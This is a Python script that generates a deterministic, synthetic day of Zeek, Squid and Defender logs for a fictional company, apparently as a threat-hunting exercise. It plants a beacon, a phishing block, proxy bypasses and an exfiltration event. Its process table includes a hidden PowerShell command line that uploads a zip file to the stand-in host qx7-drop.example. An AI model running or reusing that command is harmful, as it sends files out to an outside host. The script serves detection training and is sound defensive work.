#!/usr/bin/env python3
"""Makes the logs of a small made-up company, one day: Zeek, Squid and Defender, which belong together.

    make.py [FOLDER]        writes FOLDER/zeek, squid, defender and health (default: logs beside this file)

The same bytes on every run and on every machine: the random numbers are our own (splitmix64), the time is fixed, and
nothing depends on the order of a set. What is planted, and where, is told in README.md.
Python 3, standard library only.
"""
import datetime
import hashlib
import json
import os
import sys

DAY = datetime.datetime(2026, 3, 2, tzinfo=datetime.timezone.utc)   # a Monday
PROXY, PROXY_PORT = '10.0.0.6', 8080
DNS_SERVER, FILE_SERVER = '10.0.2.2', '10.0.2.5'
TICKS = 10_000_000                                                    # a second, in units of 100 ns


class Dice:
    """splitmix64: small, good enough, and the same everywhere."""

    def __init__(self, seed):
        self.state = seed

    def bits(self):
        self.state = (self.state + 0x9E3779B97F4A7C15) & 0xFFFFFFFFFFFFFFFF
        z = self.state
        z = ((z ^ (z >> 30)) * 0xBF58476D1CE4E5B9) & 0xFFFFFFFFFFFFFFFF
        z = ((z ^ (z >> 27)) * 0x94D049BB133111EB) & 0xFFFFFFFFFFFFFFFF
        return z ^ (z >> 31)

    def below(self, n):
        return self.bits() % n

    def between(self, low, high):
        return low + self.below(high - low + 1)

    def pick(self, items):
        return items[self.below(len(items))]

    def chance(self, percent):
        return self.below(100) < percent


dice = Dice(20260302)

# name, address, user, processes that it browses with
WORKSTATIONS = [
    ('ws-01.birchwood.example', '10.0.1.11', 'anna', ['msedge.exe', 'outlook.exe']),
    ('ws-02.birchwood.example', '10.0.1.12', 'bjorn', ['chrome.exe', 'outlook.exe']),
    ('ws-03.birchwood.example', '10.0.1.13', 'carla', ['chrome.exe', 'ms-teams.exe']),
    ('ws-04.birchwood.example', '10.0.1.14', 'dmitri', ['firefox.exe', 'outlook.exe']),
    ('ws-05.birchwood.example', '10.0.1.15', 'elin', ['msedge.exe', 'ms-teams.exe']),
    ('ws-06.birchwood.example', '10.0.1.16', 'farid', ['firefox.exe', 'ms-teams.exe']),
]
SERVERS = [('dc-01.birchwood.example', DNS_SERVER, 'system', []), ('fs-01.birchwood.example', FILE_SERVER, 'system', [])]
# domain, address, plain HTTP?
SITES = [
    ('www.dagens-nyheter.example', '192.0.2.10', False), ('mail.office.example', '192.0.2.20', False),
    ('cdn.video.example', '192.0.2.31', False), ('search.example', '192.0.2.40', False),
    ('docs.office.example', '192.0.2.21', False), ('update.vendor.example', '192.0.2.50', True),
    ('ocsp.certs.example', '192.0.2.60', True), ('api.weather.example', '192.0.2.70', False),
    ('www.bank.example', '192.0.2.80', False), ('packages.devtools.example', '192.0.2.90', False),
]
BEACON = ('telemetry.cdn-sync.example', '203.0.113.66')
RARE = ('qx7-drop.example', '203.0.113.99')
PHISH = ('phish-login.example', '203.0.113.40')
CASINO = ('casino.example', '198.51.100.12')
DIRECT = '203.0.113.77'                                               # reached without the proxy
SOCKS = '203.0.113.108'                                               # a SOCKS server outside
# What the sensor talks to: published names (samples/watchlists), addresses made up.
CLOUD = ('eu-v20.events.data.microsoft.com', '203.0.113.140')
GATEWAYS = [('winatp-gw-neu.microsoft.com', '203.0.113.141'), ('winatp-gw-weu.microsoft.com', '203.0.113.142')]
WORKSPACE = '7c1f0a52-0000-4000-8000-5eed00000001'                     # of the monitoring agent
MICROSOFT, INSPECTION = 'CN=Microsoft TLS Test CA 01,O=Microsoft Corporation,C=US', 'CN=Birchwood Inspection CA,O=Birchwood'
PROCESSES = {
    'msedge.exe': (r'c:\program files (x86)\microsoft\edge\application\msedge.exe', 'explorer.exe'),
    'chrome.exe': (r'c:\program files\google\chrome\application\chrome.exe', 'explorer.exe'),
    'firefox.exe': (r'c:\program files\mozilla firefox\firefox.exe', 'explorer.exe'),
    'outlook.exe': (r'c:\program files\microsoft office\root\office16\outlook.exe', 'explorer.exe'),
    'ms-teams.exe': (r'c:\program files\windowsapps\msteams\ms-teams.exe', 'explorer.exe'),
    'svchost.exe': (r'c:\windows\system32\svchost.exe', 'services.exe'),
    'rundll32.exe': (r'c:\windows\system32\rundll32.exe', 'explorer.exe'),
    'powershell.exe': (r'c:\windows\system32\windowspowershell\v1.0\powershell.exe', 'winword.exe'),
    'updater.exe': (r'c:\users\dmitri\appdata\local\temp\updater.exe', 'explorer.exe'),
    'mssense.exe': (r'c:\program files\windows defender advanced threat protection\mssense.exe', 'services.exe'),
    'healthservice.exe': (r'c:\program files\microsoft monitoring agent\agent\healthservice.exe', 'services.exe'),
    'system': ('', ''),
}
COMMANDS = {
    'rundll32.exe': r'rundll32.exe c:\users\public\libs\sync.dll,Start',
    'powershell.exe': 'powershell.exe -nop -w hidden -c "iwr https://qx7-drop.example/up -Method Post -InFile $env:TEMP\\q.zip"',
    'updater.exe': r'updater.exe /silent',
}
# Windows' network protection does not look into Edge, which has SmartScreen instead.
NOT_PROTECTED = {'msedge.exe', 'system'}

conn, http, ssl, dns, squid = [], [], [], [], []
events = {'DeviceNetworkEvents': [], 'DeviceProcessEvents': [], 'DeviceEvents': [], 'DeviceInfo': [], 'DeviceNetworkInfo': []}
processes = {}
report_ids = {}


# --- small things ------------------------------------------------------------------------------------------------------

def at(clock):
    """Ticks since midnight of a clock like '09:30:00'."""
    h, m, s = (int(part) for part in clock.split(':'))
    return (h * 3600 + m * 60 + s) * TICKS


def iso(ticks):
    """Defender's time: up to seven digits, trailing zeros cut."""
    whole, part = divmod(ticks, TICKS)
    text = (DAY + datetime.timedelta(seconds=whole)).strftime('%Y-%m-%dT%H:%M:%S')
    digits = f'{part:07d}'.rstrip('0')
    return text + ('.' + digits if digits else '') + 'Z'


def epoch(ticks, digits):
    """Seconds since 1970 with so many digits after the point, cut."""
    whole, part = divmod(ticks, TICKS)
    return f'{int(DAY.timestamp()) + whole}.{f"{part:07d}"[:digits]}'


def uid():
    alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'
    return 'C' + ''.join(dice.pick(alphabet) for _ in range(17))


def port():
    return dice.between(49152, 65535)


def digest(text, length):
    return hashlib.sha256(text.encode()).hexdigest()[:length]


def seconds(ticks):
    return f'{ticks // TICKS}.{ticks % TICKS // 10:06d}'


# --- Defender ----------------------------------------------------------------------------------------------------------

def device(host):
    return {'DeviceId': digest('device ' + host[0], 40), 'DeviceName': host[0]}


def event(table, host, ticks, **columns):
    """A row of a table, and the envelope that streaming puts around it."""
    report_ids[host[0]] = report_ids.get(host[0], 0) + 1
    row = {'Timestamp': iso(ticks), **device(host), **columns, 'ReportId': report_ids[host[0]]}
    events[table].append((ticks, {'time': iso(ticks + 41 * TICKS), 'tenantId': '11111111-2222-3333-4444-555555555555',
                                  'operationName': 'Publish', 'category': 'AdvancedHunting-' + table, 'properties': row,
                                  'Tenant': 'DefaultTenant'}))


def process(host, name, start):
    """The process of this name on a host, created the first time that it is needed."""
    key = (host[0], name)
    if key not in processes:
        path, parent = PROCESSES[name]
        morning = at('07:31:00') + dice.below(27 * 60) * TICKS + dice.below(TICKS)
        created = start - dice.between(2, 40) * TICKS if name in COMMANDS else morning
        processes[key] = {'InitiatingProcessFileName': name, 'InitiatingProcessFolderPath': path,
                          'InitiatingProcessId': 4 if name == 'system' else 4 * dice.between(300, 6000),
                          'InitiatingProcessCommandLine': COMMANDS.get(name, name), 'InitiatingProcessCreationTime': iso(created),
                          'InitiatingProcessSHA1': digest('sha1 ' + path, 40), 'InitiatingProcessSHA256': digest('sha256 ' + path, 64),
                          'InitiatingProcessParentFileName': parent, 'InitiatingProcessAccountDomain': 'birchwood',
                          'InitiatingProcessAccountName': host[2], 'InitiatingProcessIntegrityLevel': 'Medium',
                          'InitiatingProcessTokenElevation': 'TokenElevationTypeLimited'}
        if path:
            event('DeviceProcessEvents', host, created, ActionType='ProcessCreated', FileName=name, FolderPath=path,
                  SHA1=digest('sha1 ' + path, 40), SHA256=digest('sha256 ' + path, 64),
                  ProcessId=processes[key]['InitiatingProcessId'], ProcessCommandLine=COMMANDS.get(name, name),
                  ProcessCreationTime=iso(created), AccountDomain='birchwood', AccountName=host[2],
                  InitiatingProcessFileName=parent, InitiatingProcessAccountName=host[2])
    return processes[key]


def initiator(host, name, start):
    """The process as DeviceEvents has it: fewer columns."""
    absent = {'InitiatingProcessIntegrityLevel', 'InitiatingProcessTokenElevation'}
    return {key: value for key, value in process(host, name, start).items() if key not in absent}


def connection_event(host, name, start, peer, peer_port, local_port, action='ConnectionSuccess', protocol='Tcp', url=None):
    """What the sensor sees of any connection: the TCP peer and the process."""
    private = peer.startswith('10.')
    event('DeviceNetworkEvents', host, start, ActionType=action, RemoteIP=peer, RemotePort=peer_port, RemoteUrl=url,
          LocalIP=host[1], LocalPort=local_port, Protocol=protocol, LocalIPType='Private',
          RemoteIPType='Private' if private else 'Public', **process(host, name, start), AdditionalFields=None)


def protection_event(host, name, start, local_port, target):
    """Network protection's row: the same ActionType, the proxy's address, and the real target in RemoteUrl."""
    event('DeviceNetworkEvents', host, start + dice.between(20_000, 900_000), ActionType='ConnectionSuccess', RemoteIP=PROXY,
          RemotePort=PROXY_PORT, RemoteUrl=f'https://{target}/', LocalIP=host[1], LocalPort=local_port, Protocol='TcpV4',
          LocalIPType=None, RemoteIPType=None, **process(host, name, start), AdditionalFields='{}')


# --- Zeek --------------------------------------------------------------------------------------------------------------

def zeek_conn(start, length, source, source_port, peer, peer_port, proto, service, state, sent, received, history):
    id_ = uid()
    conn.append((start + length, [epoch(start, 6), id_, source, source_port, peer, peer_port, proto, service or '-',
                                  seconds(length) if length else '-', sent if length else '-', received if length else '-', state,
                                  'T', 'T' if peer.startswith('10.') else 'F', 0, history, sent // 900 + 4, sent + 240,
                                  received // 1200 + 3, received + 200, '-']))
    return id_


def lookup(host, start, name, address):
    """A DNS question to the company's own server."""
    local, number = port(), dice.between(1, 65535)
    length = dice.between(4_000, 90_000)
    id_ = zeek_conn(start, length, host[1], local, DNS_SERVER, 53, 'udp', 'dns', 'SF', 20 + len(name), 60 + len(name), 'Dd')
    found = address is not None
    dns.append((start, [epoch(start, 6), id_, host[1], local, DNS_SERVER, 53, 'udp', number, seconds(length), name, 1, 'C_INTERNET', 1,
                        'A', 0 if found else 3, 'NOERROR' if found else 'NXDOMAIN', 'T' if found else 'F', 'F', 'T', 'T', 0,
                        address or '-', '300.000000' if found else '-', 'F']))


# --- the company's day -------------------------------------------------------------------------------------------------

def through_proxy(host, name, start, site, plain, sent, received, length, outcome='TCP_TUNNEL/200', named=None, issuer=None):
    """One connection to the proxy, as each of the logs sees it. `named`: whether network protection names the target.

    `issuer`: of the certificate that the client was shown, where the version of TLS lets a sensor see it."""
    domain, address = site
    local, user = port(), host[2]
    denied = outcome.startswith('TCP_DENIED')
    service = 'http' if plain or denied else 'http,ssl'
    id_ = zeek_conn(start, length, host[1], local, PROXY, PROXY_PORT, 'tcp', service, 'SF', sent, received, 'ShADadFf')
    asked = start + dice.between(8_000, 40_000)
    method, uri = ('GET', f'http://{domain}/') if plain else ('CONNECT', f'{domain}:443')
    if plain:
        uri += dice.pick(['status', 'v2/list', 'r/MFEwTzBN', 'index.html'])
    status, text = (outcome.split('/')[1], 'Forbidden' if denied else 'Connection established' if not plain else 'OK')
    agent = f'Mozilla/5.0 ({name})' if name not in COMMANDS else 'WinHTTP/1.0'
    http.append((asked, [epoch(asked, 6), id_, host[1], local, PROXY, PROXY_PORT, 1, method, domain if plain else f'{domain}:443', uri, '-',
                         '1.1', agent, '-', 0, received if plain else 0, status, text, '-', '-', '(empty)', '-', '-',
                         'PROXY-CONNECTION -> keep-alive', '-', '-', '-', '-', '-', 'text/html' if plain else '-']))
    if not plain and not denied:
        shaken = asked + dice.between(100_000, 600_000)
        ssl.append((shaken, [epoch(shaken, 6), id_, host[1], local, PROXY, PROXY_PORT, 'TLSv12' if issuer else 'TLSv13',
                             'TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384' if issuer else 'TLS_AES_256_GCM_SHA384', 'x25519', domain,
                             'F', '-', 'h2' if name not in COMMANDS else '-', 'T', '-', '-', f'CN={domain}' if issuer else '-', issuer or '-',
                             digest('ja3 ' + name, 32), digest('ja3s ' + domain, 32)]))
    end = start + length
    size = received + 39
    peer = 'HIER_NONE/-' if denied else f'HIER_DIRECT/{address}'
    mime = 'text/html' if plain or denied else '-'
    squid.append((end, f'{epoch(end, 3)} {(end - asked) // 10_000:6d} {host[1]} {outcome} {size} {method} {uri} {user} {peer} {mime}'))
    connection_event(host, name, start, PROXY, PROXY_PORT, local)
    if named if named is not None else name not in NOT_PROTECTED and not plain and dice.chance(60):
        protection_event(host, name, asked, local, domain)
    if dice.chance(12):
        event('DeviceNetworkEvents', host, asked, ActionType='HttpConnectionInspected', RemoteIP=PROXY, RemotePort=PROXY_PORT,
              RemoteUrl=None, LocalIP=host[1], LocalPort=local, Protocol='Tcp', LocalIPType='Private', RemoteIPType='Private',
              InitiatingProcessId=0, InitiatingProcessParentId=0, InitiatingProcessTokenElevation='None',
              AdditionalFields=json.dumps({'direction': 'Out', 'host': domain, 'method': method, 'uri': uri, 'status_code': status,
                                           'version': '1.1', 'proxied': '["PROXY-CONNECTION -> keep-alive"]', 'user_agent': agent},
                                          separators=(',', ':')))
    return local


def inventory():
    """DeviceInfo and DeviceNetworkInfo, morning and afternoon."""
    for host in WORKSTATIONS + SERVERS:
        for clock in ['07:00:00', '13:00:00']:
            ticks = at(clock) + dice.below(600 * TICKS)
            server = host in SERVERS
            event('DeviceInfo', host, ticks, ClientVersion='10.8800.26100.1', PublicIP='198.51.100.1',
                  OSPlatform='WindowsServer2022' if server else 'Windows11', OSBuild=20348 if server else 26100, OSVersion='10.0',
                  OSArchitecture='64-bit', JoinType='Domain Joined', MachineGroup='Servers' if server else 'Workstations',
                  OnboardingStatus='Onboarded', DeviceType='Server' if server else 'Workstation', IsInternetFacing=False,
                  LoggedOnUsers=json.dumps([{'UserName': host[2], 'DomainName': 'birchwood'}], separators=(',', ':')))
            event('DeviceNetworkInfo', host, ticks, NetworkAdapterName='Ethernet', MacAddress='02-00-00-00-' + host[1].split('.')[2].zfill(2) + '-' + host[1].split('.')[3],
                  NetworkAdapterType='Ethernet', NetworkAdapterStatus='Up', DnsAddresses=json.dumps([DNS_SERVER]),
                  IPAddresses=json.dumps([{'IPAddress': host[1], 'SubnetPrefix': 24, 'AddressType': 'Private'}], separators=(',', ':')))


def office_hours():
    """What everybody does: browse through the proxy, ask for names, open files."""
    for host in WORKSTATIONS:
        for _ in range(44):
            start = at('08:00:00') + dice.below(9 * 3600) * TICKS + dice.below(TICKS)
            domain, address, plain = dice.pick(SITES)
            through_proxy(host, dice.pick(host[3]), start, (domain, address), plain, dice.between(600, 9_000),
                          dice.between(1_500, 400_000), dice.between(1, 240 if not plain else 2) * TICKS + dice.below(TICKS),
                          outcome='TCP_MISS/200' if plain else 'TCP_TUNNEL/200')
        for _ in range(16):
            start = at('08:00:00') + dice.below(9 * 3600) * TICKS + dice.below(TICKS)
            name = dice.pick([('fs-01.birchwood.example', FILE_SERVER), ('dc-01.birchwood.example', DNS_SERVER), ('wpad.birchwood.example', None)])
            lookup(host, start, *name)
        for _ in range(5):
            start, local = at('08:10:00') + dice.below(8 * 3600) * TICKS + dice.below(TICKS), port()
            zeek_conn(start, dice.between(1, 60) * TICKS, host[1], local, FILE_SERVER, 445, 'tcp', 'gssapi,smb', 'SF', dice.between(2_000, 60_000),
                      dice.between(5_000, 900_000), 'ShADadFf')
            connection_event(host, 'system', start, FILE_SERVER, 445, local)
    denied = WORKSTATIONS[0]
    for clock in ['12:04:11', '12:04:19', '12:31:02']:
        through_proxy(denied, 'msedge.exe', at(clock) + dice.below(TICKS), CASINO, False, 420, 3_900, 30 * 10_000, outcome='TCP_DENIED/403')


def beacon():
    """ws-03: rundll32.exe calls home every five minutes, give or take seven seconds, behind the proxy."""
    host = WORKSTATIONS[2]
    for turn in range(108):
        start = at('08:57:00') + turn * 300 * TICKS + dice.between(-7 * TICKS, 7 * TICKS)
        through_proxy(host, 'rundll32.exe', start, BEACON, False, dice.between(510, 560), dice.between(240, 260),
                      dice.between(2_000_000, 4_000_000), named=dice.chance(85))


def rare_domain():
    """ws-05: one upload by powershell.exe, started by winword.exe, to a name that nobody else asks for."""
    through_proxy(WORKSTATIONS[4], 'powershell.exe', at('14:22:37') + 1_234_567, RARE, False, 7_340_211, 1_904, 41 * TICKS, named=True)


def blocked():
    """ws-02: network protection blocks a phishing site, after the connection has succeeded; ws-06 has it in audit and gets through."""
    host, start = WORKSTATIONS[1], at('10:15:20') + 4_501_200
    local = through_proxy(host, 'chrome.exe', start, PHISH, False, 1_870, 4_020, 2 * TICKS, named=True)
    other, later = WORKSTATIONS[5], at('10:48:03') + 7_300_000
    far = through_proxy(other, 'firefox.exe', later, PHISH, False, 6_412, 58_230, 75 * TICKS, named=True)
    for victim, name, when, local_port, action, audit in [(host, 'chrome.exe', start, local, 'ExploitGuardNetworkProtectionBlocked', 'false'),
                                                          (other, 'firefox.exe', later, far, 'ExploitGuardNetworkProtectionAudited', 'true')]:
        event('DeviceEvents', victim, when + 9_000_000, ActionType=action, RemoteUrl=f'https://{PHISH[0]}/', RemoteIP=PROXY,
              RemotePort=PROXY_PORT, LocalIP=victim[1], LocalPort=local_port, **initiator(victim, name, when),
              AdditionalFields=json.dumps({'IsAudit': audit, 'ResponseCategory': 'Phishing', 'DisplayName': 'Phishing'}, separators=(',', ':')))


def around_the_proxy():
    """ws-04: updater.exe connects directly although a proxy is there; a QUIC try, a refused port, a ping."""
    host = WORKSTATIONS[3]
    for clock in ['09:12:44', '11:40:02', '15:05:59', '16:31:17']:
        start, local = at(clock) + dice.below(TICKS), port()
        id_ = zeek_conn(start, dice.between(3, 20) * TICKS, host[1], local, DIRECT, 443, 'tcp', 'ssl', 'SF', dice.between(3_000, 9_000),
                        dice.between(2_000, 7_000), 'ShADadFf')
        ssl.append((start + 400_000, [epoch(start + 400_000, 6), id_, host[1], local, DIRECT, 443, 'TLSv12', 'TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256',
                                      'secp256r1', 'cfg.updater-mirror.example', 'F', '-', '-', 'T', '-', '-', 'CN=cfg.updater-mirror.example',
                                      'CN=R3 Test CA', digest('ja3 updater', 32), digest('ja3s updater', 32)]))
        connection_event(host, 'updater.exe', start, DIRECT, 443, local, url='cfg.updater-mirror.example')
    quic, local = at('13:20:10') + dice.below(TICKS), port()
    zeek_conn(quic, 0, WORKSTATIONS[1][1], local, '192.0.2.31', 443, 'udp', None, 'S0', 0, 0, 'D')
    connection_event(WORKSTATIONS[1], 'chrome.exe', quic, '192.0.2.31', 443, local, action='ConnectionFailed', protocol='Udp')
    refused, local = at('09:13:30') + dice.below(TICKS), port()
    zeek_conn(refused, 31_000, host[1], local, DIRECT, 8443, 'tcp', None, 'REJ', 0, 0, 'Sr')
    connection_event(host, 'updater.exe', refused, DIRECT, 8443, local, action='ConnectionFailed')
    zeek_conn(at('08:05:00'), 3 * TICKS, host[1], 8, PROXY, 0, 'icmp', None, 'OTH', 224, 224, '-')


def straight(host, name, start, site, port_there, url, action='ConnectionSuccess'):
    """A connection that goes round the proxy, as the network sensor and Defender see it."""
    domain, address = site
    local, works = port(), action == 'ConnectionSuccess'
    zeek_conn(start, dice.between(2, 9) * TICKS if works else 0, host[1], local, address, port_there, 'tcp', 'ssl' if works else None,
              'SF' if works else 'S0', dice.between(3_000, 9_000), dice.between(2_000, 7_000), 'ShADadFf' if works else 'S')
    connection_event(host, name, start, address, port_there, local, action=action, url=domain if url else None)


def sensor_traffic():
    """The sensors report: through the proxy, one decrypted on the way (ws-06), one straight out (ws-04); an agent on fs-01."""
    for host in WORKSTATIONS:
        for clock in ['08:20:00', '12:20:00', '16:20:00']:
            start = at(clock) + dice.below(600 * TICKS)
            if host is WORKSTATIONS[3]:
                straight(host, 'mssense.exe', start, CLOUD, 443, True)
            else:
                issuer = INSPECTION if host is WORKSTATIONS[5] else MICROSOFT
                through_proxy(host, 'mssense.exe', start, CLOUD, False, dice.between(4_000, 30_000), dice.between(800, 2_000),
                              dice.between(2, 9) * TICKS, named=False, issuer=issuer)
    server = SERVERS[1]
    for clock in ['07:45:00', '11:45:00', '15:45:00']:
        straight(server, 'healthservice.exe', at(clock) + dice.below(300 * TICKS), (f'{WORKSPACE}.ods.opinsights.azure.com', '203.0.113.150'), 443, True)
    straight(server, 'healthservice.exe', at('07:46:00'), (f'{WORKSPACE}.oms.opinsights.azure.com', '203.0.113.151'), 443, True, action='ConnectionFailed')
    for clock in ['14:25:10', '14:31:55']:
        straight(WORKSTATIONS[4], 'powershell.exe', at(clock) + dice.below(TICKS), ('', SOCKS), 1080, False)


WAYS = ['Default proxy', 'Proxy auto discovery (WPAD)', 'Proxy disabled', 'Named proxy', 'Command line proxy']


def checks(outcomes):
    """What the Client Analyzer prints of one URL; a way without an outcome is not set up."""
    for number, way in enumerate(WAYS, 1):
        yield f'{number} - {way}: ' + outcomes.get(number, "Doesn't exist")


def health():
    """Results of the Client Analyzer, a device each: ws-01 is well, ws-04 only gets out without the proxy, ws-06 misses one gateway."""
    well = {1: 'Succeeded (200)', 2: 'Succeeded (200)', 3: 'Failed: the connection timed out (12002)'}
    around = {1: 'Failed: the proxy asks who it is (407)', 2: 'Failed: no script was found (12180)', 3: 'Succeeded (200)'}
    missed = {1: 'Failed (503)', 2: 'Failed (503)', 3: 'Failed: the connection timed out (12002)'}
    reports = [(WORKSTATIONS[0], '07:40:00', [well, well, well]), (WORKSTATIONS[3], '07:52:00', [around, around, around]),
               (WORKSTATIONS[5], '07:58:00', [well, well, missed])]
    for host, clock, outcomes in reports:
        lines = [f'Device name : {host[0]}', f'Report time : {iso(at(clock))}']
        for (domain, _), found in zip([CLOUD] + GATEWAYS, outcomes):
            lines += [f'Testing URL : https://{domain}/test'] + list(checks(found))
        yield host[0], lines


# --- files -------------------------------------------------------------------------------------------------------------

FIELDS = {
    'conn': ('proto service duration orig_bytes resp_bytes conn_state local_orig local_resp missed_bytes history orig_pkts orig_ip_bytes '
             'resp_pkts resp_ip_bytes tunnel_parents',
             'enum string interval count count string bool bool count string count count count count set[string]'),
    'http': ('trans_depth method host uri referrer version user_agent origin request_body_len response_body_len status_code status_msg '
             'info_code info_msg tags username password proxied orig_fuids orig_filenames orig_mime_types resp_fuids resp_filenames '
             'resp_mime_types',
             'count string string string string string string string count count count string count string set[enum] string string '
             'set[string] vector[string] vector[string] vector[string] vector[string] vector[string] vector[string]'),
    'ssl': ('version cipher curve server_name resumed last_alert next_protocol established cert_chain_fuids client_cert_chain_fuids '
            'subject issuer ja3 ja3s',
            'string string string string bool string string bool vector[string] vector[string] string string string string'),
    'dns': ('proto trans_id rtt query qclass qclass_name qtype qtype_name rcode rcode_name AA TC RD RA Z answers TTLs rejected',
            'enum count interval string count string count string count string bool bool bool bool count vector[string] '
            'vector[interval] bool'),
}


def write(folder, name, lines):
    path = os.path.join(folder, *name.split('/'))
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, 'w', encoding='utf-8', newline='\n') as file:
        file.writelines(line + '\n' for line in lines)


def zeek_lines(log, rows):
    names, types = FIELDS[log]
    yield '#separator \\x09'
    yield from ['#set_separator\t,', '#empty_field\t(empty)', '#unset_field\t-', f'#path\t{log}', '#open\t2026-03-02-00-00-00']
    yield '\t'.join(['#fields', 'ts', 'uid', 'id.orig_h', 'id.orig_p', 'id.resp_h', 'id.resp_p'] + names.split())
    yield '\t'.join(['#types', 'time', 'string', 'addr', 'port', 'addr', 'port'] + types.split())
    for _, row in rows:
        yield '\t'.join(str(value) for value in row)
    yield '#close\t2026-03-03-00-00-00'


def main():
    folder = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(os.path.abspath(__file__)), 'logs')
    for part in (inventory, office_hours, beacon, rare_domain, blocked, around_the_proxy, sensor_traffic):
        part()
    for log, rows in (('conn', conn), ('http', http), ('ssl', ssl), ('dns', dns)):
        rows.sort(key=lambda row: row[0])
        write(folder, f'zeek/{log}.log', zeek_lines(log, rows))
    write(folder, 'squid/access.log', [line for _, line in sorted(squid, key=lambda row: row[0])])
    for name, lines in health():
        write(folder, f'health/{name}.txt', lines)
    for table, rows in events.items():
        rows.sort(key=lambda row: row[0])
        write(folder, f'defender/{table}.ndjson', [json.dumps(row, separators=(',', ':')) for _, row in rows])


if __name__ == '__main__':
    main()
